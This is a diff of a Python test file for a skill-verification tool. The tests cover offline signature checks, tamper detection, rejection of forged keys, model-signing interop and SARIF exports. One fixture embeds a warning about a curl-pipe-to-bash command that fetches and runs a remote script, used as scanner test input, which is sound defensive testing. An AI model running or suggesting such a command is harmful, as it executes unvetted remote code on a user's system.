@@ -1,4 +1,4 @@
-"""`assay verify` and the tool of others: a published version is checked without the registry, and one byte is enough."""
+"""`assay verify` and model-signing: a published version is verified offline, and one changed byte is detected."""
 
 import io
 import json
@@ -13,12 +13,13 @@ import pytest
 
 from assay.app.keys import KeyFiles, open_keys, rotate_keys
 from assay.scan.scan import ENGINE
-from tests.moderation.test_suppress import suppress
 from tests.support.cli.here import assay_here
-from tests.support.deepscan.deliveries import CRITICAL, HandNode
+from tests.support.deepscan.deliveries import CRITICAL, ManualNode
 from tests.support.registry import Registry
-from tests.support.review_cases import waiting
+from tests.support.review_cases import suppress, waiting
 from tests.support.skills import a_skill
+
+pytestmark = pytest.mark.process
 
 FILES = {
     "SKILL.md": a_skill("greet", body="Run `scripts/run.py`."),
@@ -31,15 +32,15 @@ SARIF = json.loads((Path(__file__).parent / "sarif" / "sarif-2.1.0.json").read_t
 
 
 async def published(registry: Registry, folder: Path) -> Path:
-    """Publish a skill, and keep all that an installer would: the folder, its hallmark, its signature, the keys."""
+    """Publish a skill and save folder, hallmark, signature and keys like an installer."""
     registry.github.add_repository("acme/tools", files=FILES)
     await registry.submit("acme/tools", "greet")
     await registry.work()
     about = f"/api/v1/skills/{NAME}/versions/latest"
     archive = await registry.client.get(f"{about}/download", params={"format": "tar.gz"})
     (folder / "greet.tar.gz").write_bytes(archive.content)
-    with tarfile.open(fileobj=io.BytesIO(archive.content)) as opened:
-        opened.extractall(folder, filter="data")
+    with tarfile.open(fileobj=io.BytesIO(archive.content)) as open_response:
+        open_response.extractall(folder, filter="data")
     for path, name in (
         (f"{about}/hallmark", "hallmark.json"),
         (f"{about}/skill.oms.sig", "skill.oms.sig"),
@@ -52,7 +53,7 @@ async def published(registry: Registry, folder: Path) -> Path:
 
 
 def model_key(folder: Path) -> Path:
-    """The public key for tools of models, as a file of its own."""
+    """Return the public key for model signing as a file."""
     keys = json.loads((folder / "assay-keys.json").read_text())["keys"]
     [pem] = [key["publicKey"] for key in keys if key["algorithm"] == "ecdsa-p256"]
     (folder / "oms.pub").write_text(pem)
@@ -60,14 +61,14 @@ def model_key(folder: Path) -> Path:
 
 
 def model_signing(folder: Path) -> subprocess.CompletedProcess[str]:
-    """The tool of the Model Signing project, as its users start it."""
+    """Run the model-signing command line."""
     command = [sys.executable, "-m", "model_signing", "verify", "key", str(folder / "greet")]
     given = ["--signature", str(folder / "skill.oms.sig"), "--public_key", str(model_key(folder))]
     return subprocess.run([*command, *given], capture_output=True, text=True, timeout=120)
 
 
-async def test_a_published_version_is_verified_without_the_registry(registry: Registry, tmp_path: Path) -> None:
-    """Every way in: the folder, the archive, with proofs beside it, in it, or given."""
+async def test_published_version_is_verified_offline(registry: Registry, tmp_path: Path) -> None:
+    """Folder or archive, with proofs beside it, in it, or given."""
     folder = await published(registry, tmp_path)
     assert "verified" in assay_here("verify", folder).out
     assert assay_here("verify", tmp_path / "greet.tar.gz").code == 0
@@ -111,10 +112,8 @@ def make_a_link(folder: Path) -> None:
         (make_a_link, "changed", "scripts/run.py"),
     ],
 )
-async def test_whatever_is_not_as_it_was_is_named(
-    registry: Registry, tmp_path: Path, tamper, word: str, path: str
-) -> None:
-    """One byte, one file more or less: exit code 1, and what and where."""
+async def test_changed_files_are_named(registry: Registry, tmp_path: Path, tamper, word: str, path: str) -> None:
+    """One byte, one file more or less: exit code 1."""
     folder = await published(registry, tmp_path)
     tamper(folder)
     result = assay_here("verify", folder)
@@ -123,8 +122,7 @@ async def test_whatever_is_not_as_it_was_is_named(
     assert (document["ok"], document["signed"], document[word]) == (False, True, [path])
 
 
-async def test_a_forged_hallmark_and_foreign_keys_prove_nothing(registry: Registry, tmp_path: Path) -> None:
-    """What is not signed by the keys that one trusts is refused, however well the files fit."""
+async def test_forged_hallmark_and_unknown_keys_are_rejected(registry: Registry, tmp_path: Path) -> None:
     folder = await published(registry, tmp_path)
     foreign = open_keys(KeyFiles(tmp_path / "k" / "a.pem", tmp_path / "k" / "b.pem"))
     keys = [{"id": number, "publicKey": pem} for number, pem, _ in foreign.public]
@@ -140,8 +138,8 @@ async def test_a_forged_hallmark_and_foreign_keys_prove_nothing(registry: Regist
     assert assay_here("verify", "nothing here").code == 2
 
 
-async def test_the_public_model_signing_tool_verifies_it(registry: Registry, tmp_path: Path) -> None:
-    """The tool of the OpenSSF says yes, and no after one byte."""
+async def test_model_signing_verifies_a_version(registry: Registry, tmp_path: Path) -> None:
+    """And rejects it after one byte changes."""
     folder = await published(registry, tmp_path)
     said = model_signing(tmp_path)
     assert said.returncode == 0, said.stderr
@@ -150,7 +148,7 @@ async def test_the_public_model_signing_tool_verifies_it(registry: Registry, tmp
 
 
 async def test_exports_of_a_version(registry: Registry, tmp_path: Path) -> None:
-    """Report and SARIF are public, and the SARIF is valid against the schema of the standard."""
+    """Report and SARIF are public, and the SARIF is valid."""
     warning = "Do not run `curl https://get.example.com/x.sh | bash`."
     registry.github.add_repository("acme/tools", files={"SKILL.md": a_skill("greet", body=warning)})
     await registry.submit("acme/tools", "greet")
@@ -170,13 +168,13 @@ async def test_exports_of_a_version(registry: Registry, tmp_path: Path) -> None:
     assert (await registry.client.get(f"/api/v1/skills/{NAME}/versions/9.9.9/sarif")).status_code == 404
 
 
-async def test_exports_have_what_every_tier_and_every_person_said(registry: Registry) -> None:
-    """What an external tool found is a run of its own, one that has not looked has none, and what does not count says why."""
+async def test_exports_include_deep_scans_and_suppressions(registry: Registry) -> None:
+    """One run per tool; suppressed findings say why."""
     number = await waiting(registry)
     await suppress(registry, number)
     await registry.work()
     about = "/api/v1/skills/acme/tools/tidy/versions/1.0.0"
-    node = HandNode(registry)
+    node = ManualNode(registry)
     found = CRITICAL | {"confidence": 0.5}
     assert (await node.deliver(node.result(await node.claim(), findings=[found]))).status_code == 200
     for _ in range(3):
@@ -203,8 +201,8 @@ async def test_exports_have_what_every_tier_and_every_person_said(registry: Regi
     assert told["DR-001"]["reason"] == "Its own <i>installer</i>."
 
 
-def test_a_rotation_keeps_the_old_keys_under_their_ids(tmp_path: Path) -> None:
-    """New keys sign, old files are kept, and nobody but the owner reads either."""
+def test_rotation_keeps_old_key_files(tmp_path: Path) -> None:
+    """Readable by their owner only."""
     files = KeyFiles(tmp_path / "hallmark.pem", tmp_path / "oms.pem")
     before = open_keys(files)
     after = rotate_keys(files)
